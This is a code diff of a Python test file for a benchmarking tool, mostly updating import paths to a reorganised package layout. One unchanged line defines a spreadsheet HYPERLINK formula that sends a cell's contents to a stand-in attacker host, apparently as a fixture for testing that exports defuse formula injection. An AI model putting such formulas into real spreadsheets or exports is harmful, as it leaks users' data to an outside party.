@@ -10,13 +10,13 @@ import pytest
 
 from conftest import cli
 from cryptobench.cli import main
-from cryptobench.export import build_table
-from cryptobench.export_write import render_csv
-from cryptobench.records import Plan
+from cryptobench.report.export import build_table
+from cryptobench.report.export_write import render_csv
+from cryptobench.core.records import Plan
 from cryptobench.report.figures.style import ID_CHARS, run_suffix, unique_id
-from cryptobench.report.table import spreadsheet_safe
-from cryptobench.results import derive
-from cryptobench.store import Store
+from cryptobench.core.table import spreadsheet_safe
+from cryptobench.stats.results import derive
+from cryptobench.store.database import Store
 from storeutil import save_cell_at
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
@@ -200,7 +200,7 @@ def test_a_report_that_fails_half_way_leaves_the_old_one(tmp_path, monkeypatch, 
     assert main(["report", "1-2", "--out", str(out), "--db", str(db), "--quiet"]) == 0
     before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
     from cryptobench.report import build
-    from cryptobench.errors import UsageError
+    from cryptobench.core.errors import UsageError
 
     def broken(*args, **kwargs):
         raise UsageError("the figures failed")
